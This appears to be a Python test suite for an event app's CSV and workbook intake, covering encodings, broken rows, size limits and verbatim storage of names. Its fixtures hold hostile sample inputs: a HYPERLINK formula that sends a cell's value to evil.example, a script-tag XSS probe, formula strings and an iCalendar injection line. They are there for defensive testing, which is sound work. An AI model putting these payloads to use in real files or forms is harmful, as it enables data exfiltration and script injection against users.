"""Whole files with traps: read as they are meant, or refused in words."""

import io
import re
import zipfile

import pytest
from flask import Flask
from sqlalchemy import select

from eventapp.intake.errors import HeaderTwice
from eventapp.intake.limits import LIMITS
from eventapp.intake.previewing import Preview
from eventapp.intake.vocabulary import Outcome
from eventapp.kernel.db import db
from eventapp.registration.models.registrations import Registration
from eventapp.spreadsheets import errors
from eventapp.spreadsheets.files import read
from tests.intake.lists import make_week_2024, octets_of, preview, run, table_of

FINE = {Outcome.ACCEPT, Outcome.WARNING}
GOOD = (
    ("utf8_bom_semicolon.csv", "utf-8", None),
    ("gbk_chinese_headers.csv", "gb18030", {"欧阳测试", "王小测", "吕样例"}),
    ("gb18030_rare.csv", "gb18030", {"欧阳测试", "王小测", "吕样例", "㐂𠮷䶮"}),
    ("windows1250_semicolon.csv", "cp1250", {"Łucja Żółćtestowa"}),
    ("utf16le_tab.txt", "utf-16", None),
    ("mac_cr_lines.csv", "utf-8", None),
)


def outcomes(seen: Preview) -> dict[str, tuple[str, str]]:
    """What becomes of each row, by its id."""
    return {one.key or "": (str(one.outcome), one.reason) for one in seen.candidates}


def test_every_row_of_files_in_other_encodings_is_accepted(app: Flask) -> None:
    assert app
    week = make_week_2024()
    found, wrong = {}, {}
    for name, _encoding, names in GOOD:
        content = octets_of(f"variants/{name}")
        seen = preview(week, content)
        found[name] = read(content, None, LIMITS).encoding
        shown = {one.native or one.latin for one in seen.candidates}
        bad = [(one.key, one.reason) for one in seen.candidates if not one.is_new]
        is_headed = "external_id" in seen.candidates[0].cells
        if bad or is_headed or (names and shown != names):
            wrong[name] = bad, shown

    assert wrong == {}
    assert found == {name: encoding for name, encoding, _names in GOOD}


def test_files_with_broken_rows_keep_the_good_ones(app: Flask) -> None:
    assert app
    week = make_week_2024()

    ragged = outcomes(preview(week, octets_of("variants/ragged_rows.csv")))
    broken = octets_of("variants/nul_and_invalid_utf8.csv")
    seen, file = run(week, broken)
    big5 = preview(week, octets_of("variants/big5.csv"))
    moved = preview(week, octets_of("variants/unknown_and_moved_headers.csv"))

    assert ragged["K001"] == ("accept", "arrival_missing")
    assert ragged["K002"] == ("reject", "row_too_long")
    assert ragged["K003"] == ("reject", "row_too_short")
    assert ragged["K004"] == ("accept_with_warning", "namesake")
    assert outcomes(seen) == {
        "K001": ("accept", "arrival_missing"),
        "K002": ("reject", "control_character"),
        "K003": ("reject", "unreadable"),
    }
    assert file.report is not None
    assert [row["number"] for row in file.report["failed"]] == [3, 4]
    assert [one.native for one in big5.candidates] == ["王小測"]
    assert [question.text for question in big5.questions] == ["測試大學"]
    assert [(one.address, one.reason) for one in moved.candidates] == [
        ("u001@nasty.example", "normalised_to_DE")
    ]


def test_a_workbook_keeps_texts_and_runs_no_formula(app: Flask) -> None:
    assert app
    week = make_week_2024()

    content = octets_of("variants/delegates.xlsx")
    seen = preview(week, content)

    first, second = seen.candidates
    assert [table.name for table in read(content, None, LIMITS).tables][1:] == []
    assert (first.latin, first.values["phone"]) == ("Test =1+1", "48000000001")
    assert (first.outcome, first.reason) == (Outcome.ACCEPT, "local_time_assumed") or (
        first.reason == "export_must_neutralise"
    )
    assert str(first.values["departs_on"]) == "2024-03-30"
    assert (second.latin, second.values["territory_code"]) == ("Null True", "NA")
    assert second.values["note"] is None
    assert (second.outcome, second.reason) == (Outcome.REJECT, "date_invalid")


@pytest.mark.parametrize(
    ("name", "refusal", "words"),
    [
        ("empty.csv", errors.FileEmpty, "empty"),
        ("header_only.csv", errors.NoRows, "no row below it"),
        ("unclosed_quote.csv", errors.QuoteOpen, "line 3"),
        ("duplicate_headers.csv", HeaderTwice, "“email”"),
        ("not_a_csv.csv", errors.BrokenWorkbook, "damaged"),
    ],
)
def test_what_is_no_list_is_refused_in_words(
    app: Flask, name: str, refusal: type[errors.FileRefused], words: str
) -> None:
    assert app
    with pytest.raises(refusal) as raised:
        table_of(octets_of(f"variants/{name}"))

    assert words in str(raised.value)


def test_what_would_cost_much_is_refused_before_it_is_read(app: Flask) -> None:
    assert app
    octets = io.BytesIO()
    with zipfile.ZipFile(octets, "w", zipfile.ZIP_DEFLATED) as parts:
        parts.writestr("xl/worksheets/sheet1.xml", b"0" * (LIMITS.inside + 1))
    head = b"email,name\n"

    for content, refusal in (
        (octets.getvalue(), errors.TooLargeInside),
        (head + b'a@b.example,"' + b"x" * 3_000_000 + b'"\n', errors.LineTooLong),
        (head + b"a@b.example,A\n" * (LIMITS.rows + 1), errors.TooManyRows),
        (b",".join([b"c%d" % n for n in range(200)]) + b"\nA\n", errors.TooManyColumns),
    ):
        with pytest.raises(refusal):
            table_of(content)


def test_names_are_stored_as_they_were_typed(app: Flask) -> None:
    assert app
    week = make_week_2024()

    run(week, octets_of("delegates_nasty.csv"))

    rows = db.session.scalars(select(Registration)).all()
    stored = {one.key: one.name for one in rows}
    typed = {
        "N022": 'Test =HYPERLINK("http://evil.example/?"&A1,"Open")',
        "N026": "Test =1+1",
        "N030": "Test Null",
        "N038": "Test 0",
        "N042": "Wulandari",
        "N043": "Thirumurugan",
        "N044": "",
        "N047": "Mary Ann van der Test",
        "N056": "Xiaoce WANG",
        "N057": "CESHI Li",
        "N069": "Test Person",
        "N078": "<script>alert(1)</script> Redutitest",
        "N087": "BEGIN:VEVENT SUMMARY:fake Nurasutest",
    }
    assert {key: stored[key].latin for key in typed} == typed
    assert stored["N044"].native == "欧阳测试"
    assert stored["N070"].native == "نمونه\u200cای"
    assert len(stored["N074"].latin) == 205
    kept = {one.key: one for one in rows}
    assert kept["N007"].address == "n007@nasty.example"
    assert kept["N009"].address == "n009@xn--mnchen-3ya.example"
    assert kept["N029"].note == "-5 °C please =1+1"
    assert kept["N124"].phone == "+999 000 00 001"
    assert kept["N126"].phone == "0048000000001"
    assert kept["N127"].languages == ("zh-Hans", "en", "pt")
    assert (kept["N130"].diet, kept["N130"].diet_note) == (
        None,
        "No pork (清真), allergic to sesame!!",
    )
    assert (kept["N131"].diet, kept["N131"].diet_note) == (
        "vegetarian",
        "vegetarian;nut_allergy",
    )
    assert not re.search("N0(02|15|16|17|68)", " ".join(filter(None, stored)))

    again = preview(week, octets_of("delegates_nasty.csv"))

    assert [one.key for one in again.candidates if one.is_new or one.differences] == []
